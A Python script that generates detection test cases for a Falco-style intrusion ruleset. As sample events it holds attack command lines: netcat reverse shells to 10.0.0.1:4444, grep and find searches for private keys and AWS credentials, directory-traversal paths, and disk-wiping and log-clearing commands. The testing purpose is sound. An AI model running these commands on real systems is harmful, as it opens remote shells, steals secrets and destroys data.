#!/usr/bin/env python3
"""Generate rules/tests/15-falco-floor.yaml: list-wide cases for the rules
that carry Falco's stable rules (issue 13, "Falco's lists as the floor").

The lists come from rules/00-lists.yaml (so a list item added there gets its
case when this is re-run) plus Falco's own list values where vigil's rule is
not list-driven (system user names, docker binaries). Run from the repo root:

    python3 rules/tests/gen/falco_floor.py

and commit the regenerated YAML with the list change. Needs PyYAML.
"""
import json
import os
import sys

import yaml

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
LISTS = os.path.join(ROOT, "00-lists.yaml")
OUT = os.path.join(ROOT, "tests", "15-falco-floor.yaml")

SHELL = "Shell spawned by server process"
SYSUSER = "System user interactive"
UNTRUSTED = "Read sensitive file untrusted"
AFTER = "Read sensitive file trusted after startup"
TRAVERSAL = "Directory traversal to sensitive file"
CLEARLOG = "Clear log activities"
BULK = "Bulk data removal from disk"


def load_lists():
    with open(LISTS) as f:
        items = yaml.safe_load(f)
    lists = {}
    for it in items:
        if "list" in it:
            out = []
            for x in it["items"]:
                out += lists.get(x, [x]) if isinstance(x, str) else [x]
            lists[it["list"]] = out
    return lists


def exec_ev(**kw):
    ev = {"evt.type": "exec"}
    ev.update({k.replace("__", "."): v for k, v in kw.items()})
    return ev


def fields(d):
    return {k.replace("_", ".", 1) if "." not in k else k: v for k, v in d.items()}


def main():
    L = load_lists()
    cases = []

    def case(name, event, expect=None, expect_not=None):
        c = {"name": name, "event": event}
        if expect:
            c["expect"] = expect
        if expect_not:
            c["expect_not"] = expect_not
        cases.append(c)

    # --- Shell spawned by server process (Falco: Run shell untrusted) -----
    spawners = []
    for n in L["protected_shell_spawners"]:
        if n not in spawners:
            spawners.append(n)
    for n in spawners:
        case(f"sh under {n}",
             {"evt.type": "exec", "proc.name": "sh", "proc.exe": "/bin/sh",
              "proc.cmdline": "sh -c id", "proc.pname": n,
              "proc.ancestors": [n, "systemd"]},
             expect=[SHELL])
        case(f"bash under a non-shell child of {n}",
             {"evt.type": "exec", "proc.name": "bash", "proc.exe": "/bin/bash",
              "proc.cmdline": "bash -i", "proc.pname": "python3",
              "proc.ancestors": ["python3", n, "systemd"]},
             expect=[SHELL])
        case(f"sh below a shell below {n} (the first shell is the alert)",
             {"evt.type": "exec", "proc.name": "sh", "proc.exe": "/bin/sh",
              "proc.cmdline": "sh -c id", "proc.pname": "bash",
              "proc.ancestors": ["bash", n, "systemd"]},
             expect_not=[SHELL])
    for pm in L["process_manager_binaries"]:
        case(f"{pm} grandparent: shell below the managed program",
             {"evt.type": "exec", "proc.name": "sh", "proc.exe": "/bin/sh",
              "proc.cmdline": "sh -c id", "proc.pname": "node",
              "proc.ancestors": ["node", pm, "systemd"]},
             expect=[SHELL])
        case(f"{pm} parent: the service's start script",
             {"evt.type": "exec", "proc.name": "sh", "proc.exe": "/bin/sh",
              "proc.cmdline": "sh ./run", "proc.pname": pm,
              "proc.ancestors": [pm, "runsvdir", "systemd"]},
             expect_not=[SHELL])
    # ancestor depths: nginx at every tracked depth (the process table keeps 16)
    for depth in range(2, 17):
        chain = [f"worker{i}" for i in range(1, depth)] + ["nginx"]
        case(f"sh with nginx as ancestor {depth}",
             {"evt.type": "exec", "proc.name": "sh", "proc.exe": "/bin/sh",
              "proc.cmdline": "sh -c id", "proc.pname": chain[0],
              "proc.ancestors": chain},
             expect=[SHELL])
    for parent in L["shell_spawner_parent_exclusions"]:
        case(f"sh whose parent {parent} is excluded below nginx",
             {"evt.type": "exec", "proc.name": "sh", "proc.exe": "/bin/sh",
              "proc.cmdline": "sh -c true", "proc.pname": parent,
              "proc.ancestors": [parent, "nginx", "systemd"]},
             expect_not=[SHELL])
    case("sh below nginx's package maintainer script",
         {"evt.type": "exec", "proc.name": "sh", "proc.exe": "/bin/sh",
          "proc.cmdline": "sh -c true", "proc.pname": "nginx.postinst",
          "proc.ancestors": ["nginx.postinst", "dpkg", "apt-get", "nginx"]},
         expect_not=[SHELL])
    for near in ["nginxx", "postgres2", "my-consul", "pm2", "Runsv"]:
        case(f"near miss: sh under {near}",
             {"evt.type": "exec", "proc.name": "sh", "proc.exe": "/bin/sh",
              "proc.cmdline": "sh -c id", "proc.pname": "python3",
              "proc.ancestors": ["python3", near, "systemd"]},
             expect_not=[SHELL])

    # --- System user interactive --------------------------------------------
    # Falco's system_users with their Debian uids (sshd's varies: 101 here)
    users = {"bin": 2, "daemon": 1, "games": 5, "lp": 7, "mail": 8, "nobody": 65534,
             "sshd": 101, "sync": 4, "uucp": 10, "www-data": 33}
    for u, uid in users.items():
        case(f"{u} runs a command in an sshd session",
             {"evt.type": "exec", "proc.name": "id", "proc.exe": "/usr/bin/id",
              "proc.cmdline": "id", "proc.uid": uid, "user.name": u,
              "proc.loginuid": uid, "proc.pname": "bash",
              "proc.ancestors": ["bash", "sshd-session", "sshd", "systemd"]},
             expect=[SYSUSER])
        case(f"{u} runs a command below a classic sshd",
             {"evt.type": "exec", "proc.name": "bash", "proc.exe": "/bin/bash",
              "proc.cmdline": "bash", "proc.uid": uid, "user.name": u,
              "proc.loginuid": uid, "proc.pname": "sshd",
              "proc.ancestors": ["sshd", "sshd", "systemd"]},
             expect=[SYSUSER])
        case(f"{u} on a terminal",
             {"evt.type": "exec", "proc.name": "ls", "proc.exe": "/usr/bin/ls",
              "proc.cmdline": "ls", "proc.uid": uid, "user.name": u,
              "proc.tty": True, "proc.pname": "bash", "proc.ancestors": ["bash", "systemd"]},
             expect=[SYSUSER])
        case(f"{u} service process outside any session (near miss)",
             {"evt.type": "exec", "proc.name": "sh", "proc.exe": "/bin/sh",
              "proc.cmdline": "sh -c logrotate", "proc.uid": uid, "user.name": u,
              "proc.pname": "cron", "proc.ancestors": ["cron", "systemd"]},
             expect_not=[SYSUSER])
    for login in ["login", "systemd-logind"]:
        case(f"{login} run as daemon",
             {"evt.type": "exec", "proc.name": login, "proc.exe": f"/usr/bin/{login}",
              "proc.cmdline": login, "proc.uid": 1, "user.name": "daemon",
              "proc.pname": "bash", "proc.ancestors": ["bash", "systemd"]},
             expect=[SYSUSER])
    case("regular user in an sshd session (near miss)",
         {"evt.type": "exec", "proc.name": "id", "proc.exe": "/usr/bin/id",
          "proc.cmdline": "id", "proc.uid": 1000, "user.name": "alice",
          "proc.loginuid": 1000, "proc.pname": "bash",
          "proc.ancestors": ["bash", "sshd-session", "sshd", "systemd"]},
         expect_not=[SYSUSER])
    for exe in ["/usr/sbin/sshd", "/usr/lib/openssh/sshd-session", "/usr/lib/openssh/sshd-auth"]:
        case(f"sshd's own helper {exe} as user sshd (near miss)",
             {"evt.type": "exec", "proc.name": os.path.basename(exe), "proc.exe": exe,
              "proc.cmdline": os.path.basename(exe), "proc.uid": 101, "user.name": "sshd",
              "proc.pname": "sshd", "proc.ancestors": ["sshd", "systemd"]},
             expect_not=[SYSUSER])
    case("renamed sshd helper from /tmp as user sshd",
         {"evt.type": "exec", "proc.name": "sshd", "proc.exe": "/tmp/sshd",
          "proc.cmdline": "sshd", "proc.uid": 101, "user.name": "sshd",
          "proc.pname": "sshd", "proc.ancestors": ["sshd", "systemd"]},
         expect=[SYSUSER])
    case("admin runs sudo -u www-data in an ssh session (near miss)",
         {"evt.type": "exec", "proc.name": "php", "proc.exe": "/usr/bin/php",
          "proc.cmdline": "php artisan migrate", "proc.uid": 33, "user.name": "www-data",
          "proc.loginuid": 1000, "proc.tty": True, "proc.pname": "sudo",
          "proc.ancestors": ["sudo", "bash", "sshd-session", "sshd"]},
         expect_not=[SYSUSER])
    mandb = {"evt.type": "exec", "proc.name": "mandb", "proc.exe": "/usr/bin/mandb",
             "proc.cmdline": "/usr/bin/mandb -pq", "proc.uid": 6, "user.name": "man",
             "proc.loginuid": 0, "proc.tty": True, "proc.pname": "perl",
             "proc.ancestors": ["perl", "man-db.postinst", "dpkg", "apt-get", "bash", "sshd-session"]}
    case("mandb run as man by man-db.postinst under apt-get (near miss)", mandb,
         expect_not=[SYSUSER])
    renamed = dict(mandb, **{"proc.exe": "/tmp/mandb"})
    case("a /tmp binary calling itself mandb under dpkg still fires", renamed,
         expect=[SYSUSER])
    nodpkg = dict(mandb, **{"proc.ancestors": ["bash", "sshd-session"], "proc.pname": "bash",
                            "proc.loginuid": 6})
    case("mandb as man in a login session outside the package manager fires", nodpkg,
         expect=[SYSUSER])

    # --- Read sensitive file untrusted / trusted after startup ------------------
    files = list(L["sensitive_file_names"]) + ["/etc/sudoers.d/90-cloud-init-users",
                                               "/etc/pam.d/common-auth", "/etc/pam.d/sshd"]
    for f in files:
        case(f"cat reads {f}",
             {"evt.type": "open", "proc.name": "cat", "proc.exe": "/usr/bin/cat",
              "proc.cmdline": f"cat {f}", "file.path": f, "file.flags": ["O_RDONLY"],
              "evt.ret": 3},
             expect=[UNTRUSTED])
        case(f"sshd reads {f} (near miss: trusted by exe)",
             {"evt.type": "open", "proc.name": "sshd", "proc.exe": "/usr/sbin/sshd",
              "proc.cmdline": "sshd -D", "file.path": f, "file.flags": ["O_RDONLY"],
              "evt.ret": 3},
             expect_not=[UNTRUSTED])
        case(f"a copy of sshd in /tmp reads {f}",
             {"evt.type": "open", "proc.name": "sshd", "proc.exe": "/tmp/sshd",
              "proc.cmdline": "sshd", "file.path": f, "file.flags": ["O_RDONLY"],
              "evt.ret": 3},
             expect=[UNTRUSTED])
        case(f"failed open of {f} (near miss)",
             {"evt.type": "open", "proc.name": "cat", "proc.exe": "/usr/bin/cat",
              "proc.cmdline": f"cat {f}", "file.path": f, "file.flags": ["O_RDONLY"],
              "evt.ret": -13},
             expect_not=[UNTRUSTED])
        servers = L["web_server_binaries"] + L["database_server_binaries"] + L["container_daemon_binaries"]
    for n in servers:
        case(f"{n} reads /etc/shadow 6 s after start",
             {"evt.type": "open", "proc.name": n, "proc.duration": 6000000000,
              "file.path": "/etc/shadow", "file.flags": ["O_RDONLY"], "evt.ret": 3},
             expect=[AFTER])
        case(f"{n} reads /etc/shadow while starting (near miss)",
             {"evt.type": "open", "proc.name": n, "proc.duration": 4000000000,
              "file.path": "/etc/shadow", "file.flags": ["O_RDONLY"], "evt.ret": 3},
             expect_not=[AFTER])
    for near in ["/etc/passwd", "/etc/shadow.bak", "/etc/sudoers.dpkg-old", "/etc/pam.d.bak/x",
                 "/etc/security/limits.conf"]:
        case(f"near miss: cat reads {near}",
             {"evt.type": "open", "proc.name": "cat", "proc.exe": "/usr/bin/cat",
              "file.path": near, "file.flags": ["O_RDONLY"], "evt.ret": 3},
             expect_not=[UNTRUSTED])

    # --- Directory traversal ---------------------------------------------------
    for raw, path in [("/var/www/html/../../../etc/passwd", "/etc/passwd"),
                      ("/srv/app/../../root/.ssh/authorized_keys", "/root/.ssh/authorized_keys"),
                      ("/var/www/../../home/alice/.ssh/config", "/home/alice/.ssh/config"),
                      ("/app/static/../../opt/keys/id_rsa", "/opt/keys/id_rsa")]:
        case(f"traversal {raw}",
             {"evt.type": "open", "proc.name": "php-fpm8.2", "file.path": path,
              "file.path_raw": raw, "file.flags": ["O_RDONLY"], "evt.ret": -2},
             expect=[TRAVERSAL])
    case("near miss: one ../ only",
         {"evt.type": "open", "proc.name": "php-fpm8.2", "file.path": "/etc/hosts",
          "file.path_raw": "/etc/nginx/../hosts", "file.flags": ["O_RDONLY"], "evt.ret": 3},
         expect_not=[TRAVERSAL])
    case("near miss: relative traversal typed in a shell",
         {"evt.type": "open", "proc.name": "cat", "proc.pname": "bash", "file.path": "/etc/hosts",
          "file.path_raw": "../../etc/hosts", "file.flags": ["O_RDONLY"], "evt.ret": 3},
         expect_not=[TRAVERSAL])

    # --- Clear log activities (Falco: log_directories, log_files) ---------------
    for name in ["syslog", "auth.log", "secure", "kern.log", "cron", "user.log", "dpkg.log",
                 "last.log", "yum.log", "access_log", "mysql.log", "mysqld.log"]:
        case(f"truncate a file named {name}",
             {"evt.type": "open", "proc.name": "bash", "file.path": f"/opt/app/logs/{name}",
              "file.write": True, "file.flags": ["O_WRONLY", "O_TRUNC"], "evt.ret": 3},
             expect=[CLEARLOG])
    for d in ["/var/log/app.txt", "/dev/log/x"]:
        case(f"truncate {d}",
             {"evt.type": "open", "proc.name": "bash", "file.path": d,
              "file.write": True, "file.flags": ["O_WRONLY", "O_TRUNC"], "evt.ret": 3},
             expect=[CLEARLOG])
    case("near miss: append to syslog",
         {"evt.type": "open", "proc.name": "bash", "file.path": "/var/log/syslog",
          "file.write": True, "file.flags": ["O_WRONLY", "O_APPEND"], "evt.ret": 3},
         expect_not=[CLEARLOG])
    case("near miss: truncate a file named cronjob",
         {"evt.type": "open", "proc.name": "bash", "file.path": "/opt/app/cronjob",
          "file.write": True, "file.flags": ["O_WRONLY", "O_TRUNC"], "evt.ret": 3},
         expect_not=[CLEARLOG])

    # --- Remove bulk data (Falco: data_remove_commands) ---------------------------
    for n in L["data_destruction_binaries"]:
        case(f"{n} run",
             {"evt.type": "exec", "proc.name": n, "proc.cmdline": f"{n} /dev/sdb",
              "proc.pname": "bash"},
             expect=[BULK])
    case("near miss: mkfs run by systemd-makefs",
         {"evt.type": "exec", "proc.name": "mkfs.ext4", "proc.cmdline": "mkfs.ext4 /dev/vdb",
          "proc.pname": "systemd-makefs"},
         expect_not=[BULK])

    # --- SSH connection to non-standard port (Falco: ssh_non_standard_ports) ---
    SSHR = "SSH connection to non-standard port"
    for port in [80, 8080, 88, 443, 8443, 53, 4444]:
        case(f"ssh to port {port}",
             {"evt.type": "connect", "evt.ret": -115, "proc.name": "ssh", "proc.exe": "/usr/bin/ssh",
              "net.proto": "tcp", "net.family": "inet", "net.daddr": "93.184.216.34", "net.dport": port},
             expect=[SSHR])
    case("an executable ending in ssh (autossh) to port 443",
         {"evt.type": "connect", "evt.ret": -115, "proc.name": "autossh", "proc.exe": "/usr/bin/autossh",
          "net.proto": "tcp", "net.family": "inet", "net.daddr": "93.184.216.34", "net.dport": 443},
         expect=[SSHR])
    case("a copy of ssh named x in /tmp (exe /tmp/myssh) to port 8443",
         {"evt.type": "connect", "evt.ret": -115, "proc.name": "myssh", "proc.exe": "/tmp/myssh",
          "net.proto": "tcp", "net.family": "inet", "net.daddr": "93.184.216.34", "net.dport": 8443},
         expect=[SSHR])
    case("near miss: ssh to port 22",
         {"evt.type": "connect", "evt.ret": -115, "proc.name": "ssh", "proc.exe": "/usr/bin/ssh",
          "net.proto": "tcp", "net.family": "inet", "net.daddr": "93.184.216.34", "net.dport": 22},
         expect_not=[SSHR])

    # --- Search Private Keys or Passwords / Find AWS Credentials ----------------
    KEYS = "Search for private keys or passwords"
    for g in ["grep", "egrep", "fgrep"]:
        for pat in ["BEGIN PRIVATE", "BEGIN OPENSSH PRIVATE", "BEGIN RSA PRIVATE",
                    "BEGIN DSA PRIVATE", "BEGIN EC PRIVATE", "begin rsa private"]:
            case(f"{g} for '{pat}'",
                 {"evt.type": "exec", "proc.name": g, "proc.cmdline": f"{g} -rl '{pat}' /home"},
                 expect=[KEYS])
        case(f"near miss: {g} for a certificate",
             {"evt.type": "exec", "proc.name": g, "proc.cmdline": f"{g} -rl 'BEGIN CERTIFICATE' /etc/ssl"},
             expect_not=[KEYS])
    for key in ["id_rsa", "id_dsa", "id_ed25519", "id_ecdsa"]:
        case(f"find -name {key}",
             {"evt.type": "exec", "proc.name": "find", "proc.cmdline": f"find / -name {key}"},
             expect=[KEYS])
    case("near miss: find -name '*.txt'",
         {"evt.type": "exec", "proc.name": "find", "proc.cmdline": "find / -name *.txt"},
         expect_not=[KEYS])
    AWS = "Search for cloud credentials"
    for g in ["grep", "egrep", "fgrep"]:
        for pat in ["aws_access_key_id", "aws_secret_access_key", "aws_session_token",
                    "AccessKeyId", "SecretAccessKey"]:
            case(f"{g} for {pat}",
                 {"evt.type": "exec", "proc.name": g, "proc.cmdline": f"{g} -ri {pat} /"},
                 expect=[AWS])
    case("find ... .aws/credentials",
         {"evt.type": "exec", "proc.name": "find", "proc.cmdline": "find / -path *.aws/credentials"},
         expect=[AWS])
    case("near miss: grep aws_region",
         {"evt.type": "exec", "proc.name": "grep", "proc.cmdline": "grep -r aws_region ."},
         expect_not=[AWS])

    # --- Execution from /dev/shm (every shape of Falco's condition) ----------------
    SHM = "Execution from /dev/shm"
    for label, ev in [
            ("exe below /dev/shm", {"proc.name": "x", "proc.exe": "/dev/shm/x", "proc.cmdline": "x"}),
            ("./x with cwd /dev/shm/d", {"proc.name": "x", "proc.exe": "./x", "proc.cwd": "/dev/shm/d", "proc.cmdline": "./x"}),
            ("sh -c /dev/shm/x", {"proc.name": "sh", "proc.exe": "/bin/sh", "proc.cmdline": "sh -c /dev/shm/x"}),
            ("bash -i /dev/shm/x", {"proc.name": "bash", "proc.exe": "/bin/bash", "proc.cmdline": "bash -i /dev/shm/x"}),
            ("dash /dev/shm/x.sh", {"proc.name": "dash", "proc.exe": "/bin/dash", "proc.cmdline": "dash /dev/shm/x.sh"}),
            ("bash ./x.sh with cwd /dev/shm/d", {"proc.name": "bash", "proc.exe": "/bin/bash", "proc.cwd": "/dev/shm/d", "proc.cmdline": "bash ./x.sh"}),
            ("python3 ./x.py with cwd /dev/shm", {"proc.name": "python3", "proc.exe": "/usr/bin/python3", "proc.cwd": "/dev/shm", "proc.cmdline": "python3 ./x.py"})]:
        case(f"/dev/shm: {label}", dict({"evt.type": "exec"}, **ev), expect=[SHM])
    for label, ev in [
            ("ls /dev/shm", {"proc.name": "ls", "proc.exe": "/usr/bin/ls", "proc.cmdline": "ls /dev/shm"}),
            ("bash ./x.sh with cwd /dev/shmx", {"proc.name": "bash", "proc.exe": "/bin/bash", "proc.cwd": "/dev/shmx", "proc.cmdline": "bash ./x.sh"})]:
        case(f"/dev/shm near miss: {label}", dict({"evt.type": "exec"}, **ev), expect_not=[SHM])

    # --- Netcat Remote Code Execution (Falco: in containers; vigil: anywhere) ---
    NC = "Netcat started with command execution"
    for cmd in ["nc -e /bin/sh 10.0.0.1 4444", "nc 10.0.0.1 4444 -c sh", "ncat --sh-exec sh 10.0.0.1 4444",
                "ncat --exec /bin/sh 10.0.0.1 4444", "ncat -e /bin/bash 10.0.0.1 4444",
                "ncat -c sh 10.0.0.1 4444", "ncat --lua-exec x.lua 10.0.0.1 4444"]:
        name = cmd.split()[0]
        case(f"netcat: {cmd}",
             {"evt.type": "exec", "proc.name": name, "proc.cmdline": cmd, "container.id": "abc123"},
             expect=[NC])
    case("netcat near miss: nc -z port scan",
         {"evt.type": "exec", "proc.name": "nc", "proc.cmdline": "nc -z 10.0.0.1 22"},
         expect_not=[NC])

    # --- Fileless execution via memfd_create -------------------------------------
    FL = "Fileless or deleted binary execution"
    for exe in ["memfd:payload", "/memfd:payload (deleted)", "/proc/self/fd/3", "/dev/fd/4"]:
        case(f"fileless: exe {exe}", {"evt.type": "exec", "proc.name": "x", "proc.exe": exe}, expect=[FL])
    case("fileless near miss: runc re-exec from memfd",
         {"evt.type": "exec", "proc.name": "runc", "proc.exe": "memfd:runc_cloned:/proc/self/exe"},
         expect_not=[FL])

    # --- Terminal shell in container (Falco: container_entrypoint) ----------------
    TERM = "Terminal shell in container"
    for parent in L["container_entrypoint_parents"] + [""]:
        case(f"terminal shell in container, parent '{parent}'",
             {"evt.type": "exec", "proc.name": "bash", "proc.tty": True, "container.id": "abc123",
              "proc.pname": parent},
             expect=[TERM])
    case("terminal shell near miss: on the host",
         {"evt.type": "exec", "proc.name": "bash", "proc.tty": True, "proc.pname": "runc"},
         expect_not=[TERM])
    case("terminal shell near miss: no terminal",
         {"evt.type": "exec", "proc.name": "sh", "container.id": "abc123", "proc.pname": "runc"},
         expect_not=[TERM])
    case("terminal shell near miss: shell below the app's shell",
         {"evt.type": "exec", "proc.name": "sh", "proc.tty": True, "container.id": "abc123",
          "proc.pname": "bash"},
         expect_not=[TERM])

    # unique names
    seen = set()
    for c in cases:
        assert c["name"] not in seen, c["name"]
        seen.add(c["name"])
    with open(OUT, "w") as f:
        f.write("# GENERATED by rules/tests/gen/falco_floor.py from rules/00-lists.yaml;\n"
                "# edit the script or the lists and re-run it, do not edit by hand.\n"
                "# Falco's stable rules with Falco's lists as the floor (issue 13):\n"
                "# every spawner, system user, sensitive file, ancestor depth, and the\n"
                "# near misses.\n")
        for c in cases:
            f.write("- " + json.dumps(c, ensure_ascii=False)[1:-1].join(["{", "}"]) + "\n")
    print(f"{len(cases)} cases -> {os.path.relpath(OUT, os.path.dirname(ROOT))}", file=sys.stderr)


if __name__ == "__main__":
    main()
